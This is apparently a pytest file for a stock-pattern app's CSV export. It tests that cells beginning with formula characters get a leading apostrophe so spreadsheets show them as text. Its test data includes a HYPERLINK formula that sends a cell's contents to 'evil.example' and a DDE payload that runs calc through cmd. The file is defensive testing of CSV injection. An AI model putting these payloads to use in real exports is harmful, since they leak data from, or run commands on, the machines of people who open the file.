"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection), and numbers stay numbers.

A producer row whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
exported with a leading ``'``, which spreadsheets show as text instead of evaluating.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import AsyncIterator
from typing import Any

import asyncpg
import pytest

from tickstock.export import csv_cell

SYMBOL = "ZZCSV"
LINK = '=HYPERLINK("http://evil.example/?leak="&B2,"open")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (LINK, "'" + LINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Apple Inc.", "Apple Inc."),
        (-1.5, "-1.5"),
        (-7, "-7"),
        (0.25, "0.25"),
        (None, ""),
        ({"a": "=1"}, '{"a":"=1"}'),
    ],
)
def test_csv_cell_neutralises_formulas_and_keeps_numbers(value: Any, cell: str) -> None:
    assert csv_cell(value) == cell


@pytest.fixture(name="formula_rows")
async def _formula_rows(conn: asyncpg.Connection) -> AsyncIterator[None]:
    """A producer symbol and detection whose texts are spreadsheet formulas."""
    await conn.execute(
        "INSERT INTO symbols (symbol, name, sector) VALUES ($1, $2, $3)",
        SYMBOL,
        LINK,
        "+SUM(1,2)",
    )
    await conn.execute(
        "INSERT INTO daily_patterns (symbol, pattern_type, confidence, detection_timestamp)"
        " VALUES ($1, $2, 0.99, $3)",
        SYMBOL,
        "@cmd",
        dt.datetime.now(dt.UTC) - dt.timedelta(minutes=5),
    )
    try:
        yield
    finally:
        await conn.execute("DELETE FROM daily_patterns WHERE symbol = $1", SYMBOL)
        await conn.execute("DELETE FROM symbols WHERE symbol = $1", SYMBOL)


def _rows(text: str) -> list[dict[str, str]]:
    return [row for row in csv.DictReader(io.StringIO(text)) if row["symbol"] == SYMBOL]


@pytest.mark.usefixtures("formula_rows")
async def test_pattern_export_neutralises_a_formula_pattern_name(
    client: Any, auth_headers: dict[str, str]
) -> None:
    response = await client.get(
        f"/api/patterns/{SYMBOL}",
        headers=auth_headers,
        query_string={"tier": "daily", "format": "csv"},
    )
    assert response.status_code == 200
    [row] = _rows(await response.get_data(as_text=True))
    assert row["pattern"] == "'@cmd"
    assert row["confidence"] == "0.99"


@pytest.mark.usefixtures("formula_rows")
async def test_scan_export_neutralises_formula_names_and_sectors(
    client: Any, auth_headers: dict[str, str]
) -> None:
    response = await client.get(
        "/api/patterns/scan",
        headers=auth_headers,
        query_string={"format": "csv", "min_confidence": "0.98", "limit": "500"},
    )
    assert response.status_code == 200
    [row] = _rows(await response.get_data(as_text=True))
    assert (row["name"], row["sector"], row["pattern"]) == ("'" + LINK, "'+SUM(1,2)", "'@cmd")
